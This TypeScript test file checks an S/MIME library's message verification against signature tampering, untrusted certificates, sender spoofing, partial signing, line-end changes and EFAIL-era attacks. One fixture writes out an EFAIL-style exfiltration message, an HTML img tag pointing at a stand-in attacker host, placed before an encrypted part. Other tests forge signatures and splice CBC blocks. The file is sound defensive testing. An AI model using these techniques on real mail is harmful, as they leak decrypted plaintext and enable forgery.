/**
 * The verdict of verifyMessage under attack and misuse: tampering anywhere, untrusted chains,
 * sender binding (RFC 8550 §3), partial coverage, line-end damage, the EFAIL-era message-layer
 * cases of the security checklist, and S/MIME parts that lack smime-type.
 */
import assert from 'node:assert/strict';
import { createPrivateKey } from 'node:crypto';
import { describe, test } from 'node:test';
import { signContent } from '../../src/cms/signed-data.ts';
import { isSealpostError } from '../../src/errors.ts';
import { decryptMessage } from '../../src/smime/decrypt.ts';
import { encryptMessage } from '../../src/smime/encrypt.ts';
import { inspectMessage } from '../../src/smime/inspect.ts';
import { signMessage } from '../../src/smime/sign.ts';
import { verifyMessageStream } from '../../src/smime/stream.ts';
import { type VerifyReport, verifyMessage } from '../../src/smime/verify.ts';
import { Certificate } from '../../src/x509/certificate.ts';
import type { UserName } from '../support/pki.ts';
import {
  cert,
  chunked,
  editPkcs7,
  key,
  message,
  opensslOk,
  opensslVerify,
  pkcs7Of,
  pki,
  recipient,
  replaceText,
  SIGNING_TIME,
  signer,
  verifyOptions,
} from './support.ts';

const ascii = (from: string, extra: string[] = []) =>
  message(from, 'Pay 100 EUR to account 1234.\r\n', extra, ['Content-Type: text/plain; charset=us-ascii']);
const signAs = (names: UserName[], m: Uint8Array, mode: 'clear' | 'opaque' = 'clear') =>
  signMessage(m, { signers: names.map((n) => signer(n)), signingTime: SIGNING_TIME, mode });
const verify = (m: Uint8Array, extra = {}) => verifyMessage(m, verifyOptions(extra));
const P7S = 'filename="smime.p7s"';
const P7M = 'filename="smime.p7m"';

function signersOf(r: VerifyReport): string[] {
  return r.layers.flatMap((l) => ('signers' in l ? l.signers.map((s) => s.status) : []));
}

describe('tampering is a bad signature, never signed', () => {
  const clear = signAs(['alice'], ascii('alice@example.org'));
  const opaque = signAs(['alice'], ascii('alice@example.org'), 'opaque');

  test('untouched messages are signed', () => {
    assert.equal(verify(clear).status, 'signed');
    assert.equal(verify(opaque).status, 'signed');
  });

  test('a changed byte of the clear-signed body', () => {
    const r = verify(replaceText(clear, '100 EUR', '900 EUR'));
    assert.equal(r.status, 'bad-signature');
    assert.match(r.reason, /digest/i);
  });

  test('a changed byte of the signed entity header', () => {
    assert.equal(verify(replaceText(clear, 'charset=us-ascii', 'charset=us-asciI')).status, 'bad-signature');
  });

  test('a changed byte of the opaque eContent', () => {
    const bad = editPkcs7(opaque, P7M, (der) => {
      const at = der.indexOf('100 EUR');
      der[at] = 0x39;
    });
    assert.equal(verify(bad).status, 'bad-signature');
  });

  test('a flipped bit of the signature value', () => {
    for (const m of [clear, opaque]) {
      const bad = editPkcs7(m, m === clear ? P7S : P7M, (der) => {
        der[der.length - 3]! ^= 0x01;
      });
      const r = verify(bad);
      assert.equal(r.status, 'bad-signature', r.reason);
      assert.notEqual(opensslStatus(bad), 0);
    }
  });

  test('a changed signed attribute (signingTime)', () => {
    const bad = editPkcs7(clear, P7S, (der) => {
      const at = der.indexOf('260520100000Z');
      assert.ok(at > 0);
      der[at + 1] = 0x37; // 2026 → 2027
    });
    const r = verify(bad);
    assert.equal(r.status, 'bad-signature', r.reason);
  });

  test('an embedded certificate: a broken signature on it is untrusted; a changed key is a bad signature', () => {
    const leaf = cert('alice').der;
    const brokenCertSig = editPkcs7(clear, P7S, (der) => {
      const at = der.indexOf(leaf);
      assert.ok(at > 0);
      der[at + leaf.length - 2]! ^= 0x01; // inside the issuer's signature on the certificate
    });
    const r1 = verify(brokenCertSig);
    assert.equal(r1.status, 'untrusted', r1.reason);
    const spki = cert('alice').publicKeyInfo.spki;
    const changedKey = editPkcs7(clear, P7S, (der) => {
      const at = der.indexOf(spki);
      assert.ok(at > 0);
      der[at + spki.length - 20]! ^= 0x01; // inside the RSA modulus
    });
    const r2 = verify(changedKey);
    assert.equal(r2.status, 'bad-signature', r2.reason);
  });

  test('the detached signature swapped for the signature of another message', () => {
    const otherSig = pkcs7Of(signAs(['alice'], message('alice@example.org', 'something else\r\n')), P7S);
    assert.equal(verify(replaceSignature(clear, pkcs7Of(clear, P7S))).status, 'signed', 'the swap itself is faithful');
    assert.equal(verify(replaceSignature(clear, otherSig)).status, 'bad-signature');
  });
});

describe('trust', () => {
  test('an expired signer certificate is untrusted', () => {
    const r = verify(signAs(['expired'], ascii('expired@example.org')));
    assert.equal(r.status, 'untrusted');
    assert.match(r.reason, /expire|valid/i);
  });
  test('a signer under a root we do not trust is untrusted, though it names alice', () => {
    const rogueSigner = { certificate: Certificate.from(pki.rogue.cert), privateKey: createPrivateKey(pki.rogue.key) };
    const m = signMessage(ascii('alice@example.org'), { signers: [rogueSigner], signingTime: SIGNING_TIME });
    const r = verify(m);
    assert.equal(r.status, 'untrusted', r.reason);
    assert.equal(verify(m, { trustAnchors: [Certificate.from(pki.rogueRoot.cert)] }).status, 'signed');
  });
  test('a serverAuth-only certificate cannot sign mail', () => {
    assert.equal(verify(signAs(['server'], ascii('server@example.org'))).status, 'untrusted');
  });
  test('one bad signer of two spoils the message (no "one was fine")', () => {
    const m = signAs(['alice', 'expired'], ascii('alice@example.org'));
    const r = verify(m);
    assert.equal(r.status, 'untrusted');
    assert.deepEqual(signersOf(r), ['valid', 'untrusted']);
  });
});

describe('sender binding (RFC 8550 §3)', () => {
  const cases: [string, string, string[], UserName[], VerifyReport['status']][] = [
    ['From matches', 'Alice <alice@example.org>', [], ['alice'], 'signed'],
    ['From differs', 'Mallory <mallory@example.org>', [], ['alice'], 'sender-mismatch'],
    [
      'display name holds the signer address, angle addr does not',
      '"alice@example.org" <mallory@example.org>',
      [],
      ['alice'],
      'sender-mismatch',
    ],
    ['case-insensitive domain', 'alice@EXAMPLE.org', [], ['alice'], 'signed'],
    [
      'Sender names the signer, From another author',
      'carol@example.org',
      ['Sender: alice@example.org'],
      ['alice'],
      'signed',
    ],
    [
      'Sender differs from the signer, From matches',
      'alice@example.org',
      ['Sender: bob@example.org'],
      ['alice'],
      'sender-mismatch',
    ],
    ['two From addresses, one signer', 'alice@example.org, carol@example.org', [], ['alice'], 'sender-mismatch'],
    ['two From addresses, both sign', 'alice@example.org, carol@example.org', [], ['alice', 'carol'], 'signed'],
    ['empty From', '', [], ['alice'], 'sender-mismatch'],
    ['From is a group', 'Team: alice@example.org;', [], ['alice'], 'signed'],
  ];
  for (const [label, from, extra, signers, status] of cases) {
    test(label, () => {
      const r = verify(signAs(signers, ascii(from, extra)));
      assert.equal(r.status, status, r.reason);
    });
  }

  test('the explicit sender option wins over the headers', () => {
    const m = signAs(['alice'], ascii('mallory@example.org'));
    assert.equal(verify(m, { sender: 'alice@example.org' }).status, 'signed');
    assert.equal(verify(m, { sender: 'carol@example.org' }).status, 'sender-mismatch');
  });

  for (const [label, extra] of [
    ['malformed From', []],
    ['malformed Sender', ['Sender: <<alice@example.org']],
  ] as const) {
    test(`${label}: sender-mismatch with the reason, not an exception (also streaming)`, async () => {
      const from = label === 'malformed From' ? 'Alice <alice@example.org' : 'alice@example.org';
      const m = signAs(['alice'], ascii(from, [...extra]));
      const r = verify(m);
      assert.equal(r.status, 'sender-mismatch');
      assert.match(r.reason, new RegExp(`the ${label.split(' ')[1]} field cannot be parsed`));
      assert.equal(r.sender?.matched, false);
      const s = await verifyMessageStream(chunked(m, 100), verifyOptions());
      assert.equal(s.status, 'sender-mismatch');
      assert.equal(s.reason, r.reason);
    });
  }
});

describe('coverage: a signature covers only its subtree', () => {
  const signedPart = signAs(['alice'], ascii('alice@example.org'));
  const entityText = signedPart
    .toString('latin1')
    .slice(signedPart.toString('latin1').indexOf('Content-Type: multipart/signed'));
  const mixed = (parts: string[]) =>
    Buffer.from(
      [
        'From: alice@example.org',
        'To: bob@example.org',
        'MIME-Version: 1.0',
        'Content-Type: multipart/mixed; boundary="outer"',
        '',
        '--outer',
        ...parts.flatMap((p) => [p, '--outer']),
      ]
        .join('\r\n')
        .replace(/--outer$/, '--outer--\r\n'),
      'latin1',
    );

  test('unsigned text around a signed part inside multipart/mixed', () => {
    const m = mixed([
      'Content-Type: text/plain\r\n\r\nIgnore the signed text below; pay 900 EUR instead.',
      entityText.replace(/\r\n$/, ''),
    ]);
    const r = verify(m);
    assert.equal(r.status, 'partially-signed', r.reason);
    assert.equal(r.coverage, 'partial');
  });

  test('a signed message attached (message/rfc822) to an unsigned one', () => {
    const m = mixed([
      'Content-Type: text/plain\r\n\r\nSee the attached, signed by Alice.',
      `Content-Type: message/rfc822\r\n\r\n${signedPart.toString('latin1').replace(/\r\n$/, '')}`,
    ]);
    assert.equal(verify(m).status, 'partially-signed');
  });

  test('an unsigned message is not-signed', () => {
    const r = verify(ascii('alice@example.org'));
    assert.equal(r.status, 'not-signed');
    assert.equal(r.coverage, 'none');
  });
});

describe('line ends', () => {
  test('a clear-signed message stored with LF line ends still verifies (ours and OpenSSL)', () => {
    const crlf = signAs(['alice'], ascii('alice@example.org'));
    const lf = Buffer.from(crlf.toString('latin1').replace(/\r\n/g, '\n'), 'latin1');
    assert.equal(verify(lf).status, 'signed');
    opensslVerify(lf);
  });
  test('an LF-only message is signed in canonical CRLF form, which OpenSSL verifies', () => {
    const lfInput = Buffer.from(ascii('alice@example.org').toString('latin1').replace(/\r\n/g, '\n'), 'latin1');
    const m = signAs(['alice'], lfInput);
    assert.equal(verify(m).status, 'signed');
    assert.match(opensslVerify(m).toString('latin1'), /\r\n\r\nPay 100 EUR to account 1234\.\r\n$/);
  });
});

describe('EFAIL-era message-layer cases (security checklist)', () => {
  test('a multipart/signed whose signature also encapsulates content is refused (CVE-2018-18509)', () => {
    const shown = ascii('alice@example.org');
    const clear = signAs(['alice'], shown);
    const encapsulating = signContent(Buffer.from('Content-Type: text/plain\r\n\r\nhidden\r\n'), {
      signers: [signer('alice')],
      signingTime: SIGNING_TIME,
      detached: false,
    });
    const r = verify(replaceSignature(clear, encapsulating));
    assert.equal(r.status, 'bad-signature');
    assert.match(r.reason, /encapsulates content/);
  });

  test('a signature without SignerInfos (certificates only) is never signed', () => {
    const clear = signAs(['alice'], ascii('alice@example.org'));
    const certsOnly = opensslOk(['crl2pkcs7', '-nocrl', '-certfile', pki.user('alice').certPath, '-outform', 'DER']);
    const r = verify(replaceSignature(clear, certsOnly));
    assert.equal(r.status, 'bad-signature');
    assert.match(r.reason, /no signers/);
  });

  test('an encrypted part inside an unencrypted multipart is not spliced into the output', () => {
    const enc = encryptMessage(ascii('alice@example.org'), { recipients: [recipient('bob')], cipher: 'aes-256-cbc' });
    const inner = enc.message.toString('latin1');
    const part = inner.slice(inner.indexOf('Content-Type: application/pkcs7-mime')).replace(/\r\n$/, '');
    const m = Buffer.from(
      `From: alice@example.org\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.example/?\r\n--x\r\n${part}\r\n--x--\r\n`,
      'latin1',
    );
    assert.throws(
      () => decryptMessage(m, [key('bob')]),
      (e: unknown) => isSealpostError(e, 'NOT_SMIME'),
    );
    const r = verify(m, { keys: [key('bob')] });
    assert.equal(r.status, 'not-signed');
    assert.deepEqual(r.layers, []);
  });

  test('CBC blocks spliced in a signed-then-encrypted message never change what is reported signed', () => {
    const out = encryptMessage(signAs(['alice'], ascii('alice@example.org')), {
      recipients: [recipient('bob')],
      cipher: 'aes-256-cbc',
    }).message;
    const original = verify(out, { keys: [key('bob')] }).content;
    let refused = 0;
    for (let i = 0; i < 40; i++) {
      const bad = editPkcs7(out, P7M, (der) => {
        // Through the encrypted content, block by block from the end (CBC malleability).
        der[der.length - 60 - 16 * i]! ^= 0x20;
      });
      try {
        const r = verify(bad, { keys: [key('bob')] });
        // Damage past the signature's DER (the close delimiter) leaves the signed entity intact.
        if (r.status === 'signed') assert.deepEqual(r.content, original);
        else refused++;
      } catch (e) {
        assert.ok(isSealpostError(e), String(e));
        refused++;
      }
    }
    assert.ok(refused >= 38, `${refused} of 40 splices refused`);
  });
});

describe('application/pkcs7-mime without smime-type: the ContentInfo decides', () => {
  test('opaque-signed named smime.p7m (Outlook style) verifies as signed', () => {
    const m = replaceText(
      signAs(['alice'], ascii('alice@example.org'), 'opaque'),
      'application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"',
      'application/pkcs7-mime; name=smime.p7m',
    );
    const r = verify(m);
    assert.equal(r.status, 'signed', r.reason);
    assert.equal(r.layers[0]!.kind, 'opaque-signed');
    assert.equal(inspectMessage(m).layers[0]!.kind, 'opaque-signed');
  });

  test('legacy application/x-pkcs7-mime without parameters, enveloped and authEnveloped', () => {
    for (const [cipher, kind] of [
      ['aes-256-cbc', 'enveloped'],
      ['aes-128-gcm', 'auth-enveloped'],
    ] as const) {
      const enc = encryptMessage(ascii('alice@example.org'), { recipients: [recipient('bob')], cipher }).message;
      const m = Buffer.from(
        enc
          .toString('latin1')
          .replace(/Content-Type: application\/pkcs7-mime;[^\r\n]*/, 'Content-Type: application/x-pkcs7-mime'),
        'latin1',
      );
      const d = decryptMessage(m, [key('bob')]);
      assert.deepEqual(
        d.removed.map((l) => l.kind),
        [kind],
      );
      assert.equal(inspectMessage(m).layers[0]!.kind, kind);
    }
  });

  test('a pkcs7-mime part whose body is not CMS is a typed error', () => {
    const m = Buffer.from(
      'From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA\r\n',
    );
    assert.throws(
      () => verify(m),
      (e: unknown) => isSealpostError(e),
    );
  });
});

function opensslStatus(m: Uint8Array): number {
  try {
    opensslVerify(m);
    return 0;
  } catch {
    return 1;
  }
}

/** The clear-signed message `m` with its p7s body replaced by `der`. */
function replaceSignature(m: Uint8Array, der: Uint8Array): Buffer {
  const text = Buffer.from(m).toString('latin1');
  const at = text.indexOf('\r\n\r\n', text.indexOf(P7S)) + 4;
  const end = at + /^[A-Za-z0-9+/=\r\n]*/.exec(text.slice(at))![0].length;
  const b64 = Buffer.from(der)
    .toString('base64')
    .replace(/.{1,76}/g, '$&\r\n');
  return Buffer.from(`${text.slice(0, at)}${b64}${text.slice(end)}`, 'latin1');
}
